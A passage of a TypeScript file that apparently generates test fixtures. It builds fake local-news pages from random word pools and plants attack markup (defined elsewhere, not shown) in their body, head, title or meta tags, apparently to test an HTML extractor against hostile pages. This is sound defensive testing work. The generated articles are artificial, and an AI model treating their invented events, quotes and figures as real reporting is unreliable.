      'the reservoir spilled for the first time in a decade',
      'temperatures fell below freezing before dusk',
    ],
    figures: [
      '# millimetres of rain fell in six hours',
      'wind speeds peaked at # kilometres an hour',
      '# households lost power',
      'the mercury climbed to # degrees',
      '# schools closed early',
      'snowdrifts stood # centimetres deep',
    ],
    quotes: [
      'we have not seen hail like this since my grandfather farmed here',
      'stay off the promenade until the tide turns',
      'the drains simply could not cope',
      'it came in sideways and it did not stop',
      'our crews worked through the night clearing fallen oaks',
    ],
    places: [
      'the harbour wall',
      'the valley villages',
      'the ring road',
      'the old quarter',
      'the airport approach',
      'the allotments by the canal',
    ],
  },
  {
    section: 'Courts',
    roles: [
      'the presiding judge',
      'a defence barrister',
      'the chief prosecutor',
      'the court registrar',
      'a solicitor for the family',
      'an appeals magistrate',
    ],
    bodies: [
      'district court',
      'court of appeal',
      'constitutional tribunal',
      'coroner',
      'bar association',
    ],
    verbs: ['adjourned', 'dismissed', 'upheld', 'overturned', 'sealed', 'reopened'],
    things: [
      'the fraud trial of a former mayor',
      'an appeal over unpaid parking fines',
      'the inquest into the warehouse fire',
      'a libel claim against a tabloid',
      'the injunction blocking the demolition',
      'the bail application of two dockworkers',
    ],
    reasons: [
      'a key witness fell ill on the stand',
      'jurors saw a newspaper headline about the case',
      'the evidence bags had been mislabelled',
      'prosecutors disclosed new bank records',
      'the interpreter had not been sworn in',
      'the lease turned out to be forged',
    ],
    figures: [
      '# witnesses gave evidence',
      'the jury deliberated for # hours',
      'damages were set at # thousand',
      'the sentence was cut by # months',
      '# pages of exhibits were filed',
      'the hearing ran into its # th day',
    ],
    quotes: [
      'justice delayed is still justice denied',
      'my client has always maintained his innocence',
      'the record speaks for itself',
      'we will study the ruling before deciding whether to appeal',
      'nobody should read anything into the adjournment',
    ],
    places: [
      'courtroom four',
      'the public gallery',
      'the steps of the courthouse',
      'the magistrates annex',
      'the records office',
      'the holding cells',
    ],
  },
  {
    section: 'Sport',
    roles: [
      'the head coach',
      'a veteran goalkeeper',
      'the club captain',
      'the team physio',
      'a rookie winger',
      'the league commissioner',
    ],
    bodies: [
      'rugby union',
      'cycling federation',
      'athletics club',
      'rowing association',
      'basketball league',
    ],
    verbs: ['clinched', 'forfeited', 'appealed', 'celebrated', 'postponed', 'secured'],
    things: [
      'the regional cup final',
      'a relegation decider',
      'the indoor sprint title',
      'its first away win in years',
      'the derby against their neighbours',
      'a place in the continental playoffs',
    ],
    reasons: [
      'the pitch was waterlogged',
      'the visiting striker scored twice in stoppage time',
      'a referee was injured in the warm-up',
      'the floodlights failed at half-time',
      'three players tested positive for a stomach bug',
      'the stadium roof leaked onto the court',
    ],
    figures: [
      '# spectators packed the stands',
      'the winning margin was # points',
      'she shaved # hundredths off the record',
      'the transfer fee reached # million',
      '# yellow cards were shown',
      'the marathon field numbered # runners',
    ],
    quotes: [
      'the lads ran until their legs gave out',
      'we were second best for an hour and then something clicked',
      'you cannot legislate for a bounce like that',
      'this medal belongs to everyone who drove me to training at dawn',
      'the pitch looked like a paddy field',
    ],
    places: [
      'the municipal velodrome',
      'the riverside ground',
      'the training barn',
      'the away dressing room',
      'the finishing straight',
      'the boathouse',
    ],
  },
  {
    section: 'Politics',
    roles: [
      'the deputy mayor',
      'an opposition councillor',
      'the finance committee chair',
      'a ward representative',
      'the parliamentary whip',
      'the planning convenor',
    ],
    bodies: [
      'city council',
      'provincial assembly',
      'parish board',
      'electoral commission',
      'ombudsman',
    ],
    verbs: ['shelved', 'approved', 'rejected', 'amended', 'fast-tracked', 'scrapped'],
    things: [
      'a levy on empty shops',
      'the redrawn ward boundaries',
      'plans for a tourist tax',
      'the budget for street lighting',
      'a motion of no confidence',
      'the contract for rubbish collection',
    ],
    reasons: [
      'the tender documents had leaked',
      'turnout in the by-election was the lowest on record',
      'two coalition partners walked out',
      'a petition gathered thousands of signatures overnight',
      'auditors queried the consultancy fees',
      'the quorum was not reached',
    ],
    figures: [
      'the motion passed by # votes',
      '# residents spoke at the hearing',
      'turnout stood at # per cent',
      'the levy would raise # million',
      '# amendments were tabled',
      'the session lasted # hours',
    ],
    quotes: [
      'this chamber owes people a straight answer',
      'we were handed the papers twenty minutes before the vote',
      'nobody elected a consultant',
      'the numbers never added up and they still do not',
      'I will not be lectured on transparency by that bench',
    ],
    places: [
      'the council chamber',
      'the town hall foyer',
      'a packed community centre',
      'the committee room',
      'the polling station in the old library',
      'the mayoral office',
    ],
  },
  {
    section: 'Science',
    roles: [
      'a marine biologist',
      'the observatory director',
      'a volcanologist',
      'the lead geneticist',
      'a doctoral student',
      'the museum palaeontologist',
    ],
    bodies: [
      'national laboratory',
      'university physics department',
      'botanic garden',
      'geological survey',
      'space agency',
    ],
    verbs: ['catalogued', 'sequenced', 'detected', 'reconstructed', 'photographed', 'dated'],
    things: [
      'a previously unknown species of beetle',
      'the genome of a cave-dwelling fish',
      'faint radio bursts from a distant galaxy',
      'the skull of a small herbivorous dinosaur',
      'microplastics in glacier ice',
      'tremors beneath the dormant caldera',
    ],
    reasons: [
      'the new telescope came online in spring',
      'a retired engineer donated his fossil collection',
      'drones mapped the seabed for the first time',
      'the sensors had been recalibrated after the winter',
      'volunteers counted moths for three summers',
      'a freezer failure nearly destroyed the samples',
    ],
    figures: [
      'the fossil is # million years old',
      '# samples were analysed',
      'the signal repeated every # seconds',
      'the team spent # nights on the ridge',
      'the beetle measures # millimetres',
      '# volunteers joined the survey',
    ],
    quotes: [
      'we almost threw the sample away',
      'nature keeps reminding us how little we have catalogued',
      'the data were so clean we checked them three times',
      'it is the sort of find you wait a career for',
      'nobody expected anything to live down there',
    ],
    places: [
      'the research vessel',
      'the clean room',
      'the dig site above the quarry',
      'the radio dish on the plateau',
      'the herbarium vault',
      'the tidal pools',
    ],
  },
  {
    section: 'Business',
    roles: [
      'the chief executive',
      'a union steward',
      'the finance director',
      'an equity analyst',
      'the founder',
      'a supplier',
    ],
    bodies: ['brewery', 'textile mill', 'software start-up', 'shipping line', 'supermarket chain'],
    verbs: ['announced', 'postponed', 'completed', 'abandoned', 'confirmed', 'renegotiated'],
    things: [
      'a takeover of its largest rival',
      'the closure of two distribution depots',
      'a share buyback',
      'a pay deal for warehouse staff',
      'the sale of its loss-making bakery arm',
      'an expansion into frozen desserts',
    ],
    reasons: [
      'quarterly profits beat forecasts',
      'the price of barley doubled',
      'a cyber attack froze its tills',
      'the founder stepped down unexpectedly',
      'the regulator opened an inquiry',
      'exports to the south collapsed',
    ],
    figures: [
      'revenue rose # per cent',
      'the shares fell # per cent in early trading',
      '# jobs are at risk',
      'the deal values the firm at # million',
      'orders grew for the # th straight month',
      'the dividend was raised to # cents',
    ],
    quotes: [
      'we are buying for the long term, not the next quarter',
      'our members will not accept another pay freeze',
      'the order book has never looked healthier',
      'frankly the market overreacted',
      'we have been honest with staff at every step',
    ],
    places: [
      'the trading floor',
      'the factory gates',
      'the loading bays',
      'the annual general meeting',
      'the flagship store',
      'the head office canteen',
    ],
  },
  {
    section: 'Transport',
    roles: [
      'the rail operations manager',
      'a bus driver',
      'the harbour master',
      'a cycling campaigner',
      'the airport spokesperson',
      'a signalling engineer',
    ],
    bodies: [
      'tram company',
      'rail network',
      'port authority',
      'airport operator',
      'highways department',
    ],
    verbs: ['suspended', 'restored', 'rerouted', 'reopened', 'inspected', 'electrified'],
    things: [
      'the night bus service',
      'the coastal branch line',
      'ferry crossings to the islands',
      'the cycle lane on the bridge',
      'two runways',
      'the tunnel under the bay',
    ],
    reasons: [
      'a landslip blocked the cutting',
      'overhead cables were stolen',
      'the drivers voted to strike',
      'a cargo ship lost its rudder in the channel',
      'cracks appeared in a viaduct pier',
      'ticket machines were hacked',
    ],
    figures: [
      '# commuters were stranded',
      'delays averaged # minutes',
      'the upgrade cost # million',
      '# trains were cancelled',
      'passenger numbers fell by # per cent',
      'the queue stretched for # kilometres',
    ],
    quotes: [
      'we apologise to every passenger left on the platform',
      'the timetable was fiction long before the strike',
      'safety comes before punctuality, always',
      'I have driven this route for twenty years and never seen it this bad',
      'give us a lane and people will cycle',
    ],
    places: [
      'the central station concourse',
      'the ferry terminal',
      'the bus depot',
      'the departures hall',
      'the level crossing',
      'the toll plaza',
    ],
  },
  {
    section: 'Health',
    roles: [
      'a paediatric nurse',
      'the hospital director',
      'an epidemiologist',
      'a rural pharmacist',
      'the ambulance chief',
      'a patient advocate',
    ],
    bodies: [
      'children’s hospital',
      'public health agency',
      'blood bank',
      'mental health trust',
      'vaccination programme',
    ],
    verbs: ['launched', 'expanded', 'paused', 'audited', 'funded', 'trialled'],
    things: [
      'a mobile dental clinic',
      'free hearing tests for pensioners',
      'the measles catch-up campaign',
      'an overnight mental health helpline',
      'robotic knee surgery',
      'a scheme to deliver insulin by drone',
    ],
    reasons: [
      'waiting lists doubled over the winter',
      'a donor left the trust her estate',
      'cases of whooping cough rose sharply',
      'the old boiler failed during an operation',
      'nurses reported burnout in a survey',
      'a pilot in the hill villages worked',
    ],
    figures: [
      '# patients were seen in the first week',
      'waiting times fell by # days',
      '# doses were administered',
      'the ward has # beds',
      'staffing is # posts short',
      'calls rose # per cent',
    ],
    quotes: [
      'nobody should have to drive three hours to see a dentist',
      'the staff have been heroic but heroics are not a plan',
      'early signs are encouraging but we need more data',
      'my mother waited fourteen months for that hip',
      'prevention is always cheaper than cure',
    ],
    places: [
      'the maternity ward',
      'the car park clinic',
      'the pharmacy counter',
      'the emergency department',
      'the village surgery',
      'the rehabilitation gym',
    ],
  },
  {
    section: 'Culture',
    roles: [
      'the festival director',
      'a set designer',
      'the museum curator',
      'a jazz pianist',
      'the librarian',
      'a novelist',
    ],
    bodies: ['opera house', 'city museum', 'film festival', 'public library', 'folk music society'],
    verbs: ['unveiled', 'restored', 'premiered', 'acquired', 'cancelled', 'digitised'],
    things: [
      'a lost medieval tapestry',
      'an opera about a shipwreck',
      'letters from a wartime poet',
      'the silent film archive',
      'a mural by local teenagers',
      'a puppet theatre for the children’s wing',
    ],
    reasons: [
      'a collector bequeathed the pieces',
      'the roof of the east gallery was finally repaired',
      'a crowdfunding drive beat its target',
      'rights to the score were cleared',
      'the lead soprano lost her voice',
      'a flood damaged the storerooms',
    ],
    figures: [
      '# visitors came on opening night',
      'the restoration took # months',
      'tickets sold out in # minutes',
      'the collection holds # reels',
      'the tapestry is # metres long',
      '# volunteers catalogued the letters',
    ],
    quotes: [
      'it smells of smoke and candle wax even now',
      'art should be noisy, and this is very noisy',
      'we found the reels in a biscuit tin',
      'the children designed every puppet themselves',
      'a library is the last free room in town',
    ],
    places: [
      'the main auditorium',
      'the west gallery',
      'the reading room',
      'the cloister garden',
      'the rehearsal studio',
      'the old cinema',
    ],
  },
  {
    section: 'Housing',
    roles: [
      'a tenants union organiser',
      'the housing officer',
      'a letting agent',
      'the site foreman',
      'a first-time buyer',
      'the building inspector',
    ],
    bodies: [
      'housing association',
      'planning inspectorate',
      'land registry',
      'rent tribunal',
      'building control office',
    ],
    verbs: ['condemned', 'refurbished', 'froze', 'granted', 'evicted', 'insulated'],
    things: [
      'a block of flats with failing balconies',
      'rents across the estate',
      'permission for a timber tower',
      'the former barracks',
      'three hundred social homes',
      'the converted mill',
    ],
    reasons: [
      'inspectors found damp in most bedrooms',
      'the developer went into administration',
      'tenants withheld rent for a month',
      'an archaeological dig delayed the foundations',
      'mortgage rates jumped again',
      'a balcony collapsed in the summer',
    ],
    figures: [
      'rents rose # per cent',
      '# families are on the waiting list',
      'the tower will have # storeys',
      'prices fell for # months running',
      '# flats were found to be unsafe',
      'the average deposit reached # thousand',
    ],
    quotes: [
      'we have been wiping mould off the walls for two winters',
      'nobody builds anything without certainty',
      'the landlord simply stopped answering the phone',
      'this scheme proves timber works at height',
      'I will be forty before I own a front door',
    ],
    places: [
      'the estate courtyard',
      'the show flat',
      'the scaffolding on the north face',
      'the tribunal waiting room',
      'the former parade ground',
      'the boarded-up stairwell',
    ],
  },
];

/** What a thing is qualified by, so the same thing reads differently on each page. */
const QUALIFIERS = [
  'near the old quarry',
  'on the eastern bypass',
  'promised before the last election',
  'for the coming winter',
  'in the northern suburbs',
  'backed by a private donor',
  'opposed by the chamber of commerce',
  'first floated in a leaked memo',
  'beside the gasworks',
  'across the river from the cathedral',
  'that residents had petitioned for',
  'at a cost nobody would confirm',
  'in the shadow of the cement works',
  'along the tidal flats',
  'on land owned by the diocese',
  'drawn up by a Danish consultancy',
  'in the market district',
  'without a public consultation',
  'delayed twice already',
  'funded from a lottery grant',
  'below the ruined fort',
  'on the old tram depot site',
  'championed by a retired headteacher',
  'beyond the cattle market',
  'tied to a European loan',
  'under the flyover',
];
const WHEN = [
  'earlier in the month',
  'within hours of the announcement',
  'for the second year running',
  'just before the holidays',
  'despite repeated warnings',
  'as the season opened',
  'while the minister was abroad',
  'on the eve of the audit',
  'during the heatwave',
  'the week the new rules took effect',
  'before anyone had read the report',
  'in the middle of the night',
  'after months of silence',
  'three days before polling',
  'as auditors arrived',
  'amid a row over pensions',
];
const VERDICTS = [
  'telling',
  'alarming',
  'overdue',
  'remarkable',
  'unsurprising',
  'a scandal',
  'a disgrace',
  'encouraging',
  'baffling',
  'grim',
  'a turning point',
  'predictable',
  'a relief',
];
const LINKS = ['a rise that', 'a slide that', 'a change that', 'a trend that', 'a shift that'];

function capitalise(text: string): string {
  return text.charAt(0).toUpperCase() + text.slice(1);
}

interface Prose {
  city: string;
  outlet: string;
  author: string;
  section: string;
  headline: string;
  paragraphs: string[];
}

/** The article text of page `n`: its own topics, people, places and figures. */
function prose(n: number): Prose {
  const draw = drawer(0x5eed + n * 7919);
  const person = () => `${draw(FIRST_NAMES)} ${draw(SURNAMES)}`;
  const city = CITIES[n % CITIES.length] ?? 'Lisbon';
  // A round-up: each paragraph covers its own topic, so topics are spread over many pages.
  const topics = [...TOPICS].sort(() => draw.int(0, 1) * 2 - 1).slice(0, 5);
  const main = topics[0];
  if (!main) throw new RangeError('no topics');
  const figure = (topic: Topic) => draw(topic.figures).replace('#', String(draw.int(2, 980)));
  const thing = (t: Topic) => `${draw(t.things)} ${draw(QUALIFIERS)}`;
  const reason = (t: Topic) => `${draw(t.reasons)} ${draw(WHEN)}`;
  // Every third page quotes someone, each with a quote no other page uses.
  let quoted = n % 3 !== 0;
  const quote = (t: Topic) => {
    quoted = true;
    const all = TOPICS.flatMap((topic) => topic.quotes);
    return capitalise(all[(Math.floor(n / 3) * 17) % all.length] ?? draw(t.quotes));
  };
  const sentences: Array<(topic: Topic) => string> = [
    (t) =>
      `${capitalise(draw(t.roles))} ${draw(t.verbs)} ${thing(t)} ${draw(DAYS)}, saying ${reason(t)}.`,
    (t) => `The ${city} ${draw(t.bodies)} ${draw(t.verbs)} ${thing(t)} after ${reason(t)}.`,
    (t) => `“${quote(t)},” said ${person()}, ${draw(t.roles)}, speaking at ${draw(t.places)}.`,
    (t) => `At ${draw(t.places)}, ${figure(t)}, while ${draw(t.roles)} warned that ${reason(t)}.`,
    (t) =>
      `${person()} first raised ${thing(t)} in ${draw(MONTHS)} ${draw.int(1998, 2023)}, when ${draw(t.reasons)}.`,
    (t) =>
      `Records from the ${draw(t.bodies)} show ${figure(t)} at ${draw(t.places)}, which ${person()} called ${draw(VERDICTS)} given ${thing(t)}.`,
    (t) => `Asked about ${thing(t)}, ${person()} would only say: “${quote(t)}.”`,
    (t) =>
      `${capitalise(draw(WHEN))}, ${draw(t.roles)} toured ${draw(t.places)} and ${draw(t.verbs)} ${thing(t)}.`,
    (t) =>
      `Nobody at ${draw(t.places)} disputed that ${figure(t)}; the argument was over ${thing(t)}.`,
    (t) =>
      `Since ${draw(MONTHS)}, ${figure(t)}, ${draw(LINKS)} ${draw(t.roles)} blamed on ${thing(t)}.`,
  ];
  const sentence = (topic: Topic) => {
    const quotes = [2, 6];
    const pool = quoted ? sentences.filter((_, index) => !quotes.includes(index)) : sentences;
    return draw(pool)(topic);
  };
  const paragraphs = topics.map((topic) => `${sentence(topic)} ${sentence(topic)}`);
  paragraphs[0] = `${city.toUpperCase()} — ${paragraphs[0] ?? ''}`;
  const headline = `${city}: ${capitalise(draw(main.bodies))} ${draw(main.verbs)} ${draw(main.things)}`;
  return {
    city,
    outlet: `The ${city} ${draw(MASTHEADS)}`,
    author: person(),
    section: main.section,
    headline,
    paragraphs,
  };
}

interface PageParts {
  head?: string;
  title?: string;
  meta?: string;
  body?: string;
  bodyAttributes?: string;
  afterBody?: string;
}

/** One ordinary article with its own prose, numbered so it is unlike every other page. */
function page(n: number, parts: PageParts = {}): string {
  const article = prose(n);
  const headline = parts.title ?? article.headline;
  const body = article.paragraphs.map((text) => `<p>${text}</p>`);
  // The attack goes after the lead, inside the article, where an extractor would keep it.
  if (parts.body) body.splice(1, 0, parts.body);
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${headline}</title>
<meta property="og:title" content="${article.headline}">
<meta property="og:type" content="article">
<meta property="og:site_name" content="${article.outlet}">
<meta property="article:published_time" content="2024-0${(n % 9) + 1}-1${n % 10}T08:00:00Z">
<meta property="article:section" content="${article.section}">
<meta name="author" content="${article.author}">
${parts.meta ?? ''}
${parts.head ?? ''}
</head>
<body${parts.bodyAttributes ? ` ${parts.bodyAttributes}` : ''}>
<header><h1>${article.outlet}</h1></header>
<main>
<article>
<h1>${headline}</h1>
<p class="byline">By ${article.author}</p>
${body.join('\n')}
</article>
</main>
</body>
${parts.afterBody ?? ''}
</html>
`;
}

/** Removes the default og:title/author/site lines a 'meta' attack replaces, so its own value wins. */
function withMeta(n: number, meta: string): string {
  const html = page(n, { meta });
  const overridden = /property="og:title"/.test(meta)
    ? /<meta property="og:title" content="[^"]*">\n/
    : /name="author"/.test(meta)
      ? /<meta name="author" content="[^"]*">\n/
      : /og:site_name/.test(meta)
        ? /<meta property="og:site_name" content="[^"]*">\n/
        : /article:published_time/.test(meta)
          ? /<meta property="article:published_time" content="[^"]*">\n/
          : null;
  if (!overridden) return html;
  // The article's own byline line would win over the author field the attack replaces.
  const withoutByline = /name="author"/.test(meta)
    ? html.replace(/<p class="byline">[^<]*<\/p>\n/, '')
    : html;
  return withoutByline.replace(overridden, '');
}

function build(attack: Attack, n: number): string {
  const markup = attack.markup(n);
  switch (attack.placement) {
    case 'body':
      return page(n, { body: markup });
    case 'head':
      return page(n, { head: markup });
    case 'title':
      return page(n, { title: markup }).replace(/<meta property="og:title" content="[^"]*">\n/, '');
    case 'meta':
      return withMeta(n, markup);
    case 'page':
      return markup;
  }
}

/** Every hostile page, numbered from 0 in a stable order. */
export function hostilePages(): HostilePage[] {
  const pages = ATTACKS.map((attack, n) => ({
    name: attack.name,
    category: attack.category,
    html: build(attack, n),
  }));
  // A few pages carry many attacks at once, as a real compromised page would.
  const combined = ATTACKS.filter((attack) => attack.placement === 'body').slice(0, 40);
  for (let index = 0; index < 4; index += 1) {
    const n = pages.length;
    const attacks = combined.filter((_, at) => at % 4 === index);
    pages.push({
      name: `combined-${index + 1}`,
      category: 'combined',
      html: page(n, {
        head: ATTACKS.filter((attack) => attack.placement === 'head')
          .map((attack) => attack.markup(n))
          .join('\n'),
        body: attacks.map((attack) => attack.markup(n)).join('\n'),
      }),
    });
  }
  return pages;
}
